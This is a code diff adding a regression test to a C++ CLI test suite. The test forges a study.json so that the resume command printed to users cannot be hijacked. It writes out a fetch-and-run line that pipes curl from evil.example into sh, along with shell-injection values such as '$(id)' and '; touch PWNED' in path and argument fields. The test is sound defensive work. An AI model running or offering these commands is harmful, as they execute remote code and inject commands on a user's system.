@@ -152,6 +152,27 @@ TEST(CliStudy, RunsEveryPointWithMpiAndResumes) {
             std::string::npos)
       << r.err;
   EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), 7u);
+  // The command it names is rebuilt from study.json's parts, quoted, with this pararun: one
+  // who may write the folder does not choose what the user is told to paste (the file's
+  // resume_command was printed word for word: "cd /tmp && curl -s x | sh #").
+  Json forged = Json::parse(slurp(dir + "/study.json"));
+  forged["resume_command"] = "cd /tmp && curl -s evil.example/x | sh #";
+  forged["resume_from"] = {
+      {"cwd", "/tmp; touch PWNED"}, {"cpus", ""}, {"args", {"/tmp/evil", "study", "$(id)"}}};
+  write_file(dir + "/study.json", forged.dump());
+  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
+  EXPECT_EQ(r.code, 2);
+  EXPECT_NE(r.err.find("with: cd '/tmp; touch PWNED' && " + std::string(PARARUN_EXE) +
+                       " study '$(id)' --out " + dir + " --resume; or choose"),
+            std::string::npos)
+      << r.err;
+  EXPECT_EQ(r.err.find("curl"), std::string::npos) << r.err;
+  forged["resume_from"] = {{"cwd", "/"}, {"cpus", "1;id"}, {"args", {"pararun", "study"}}};
+  write_file(dir + "/study.json", forged.dump());
+  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
+  EXPECT_NE(r.err.find("with: pararun study ... --out " + dir + " --resume; or choose"),
+            std::string::npos)
+      << r.err;
   // A damaged study.json cannot tell: the folder is refused, not taken for this study.
   for (const char* damaged : {"{garbage", "", "[]"}) {
     write_file(dir + "/study.json", damaged);
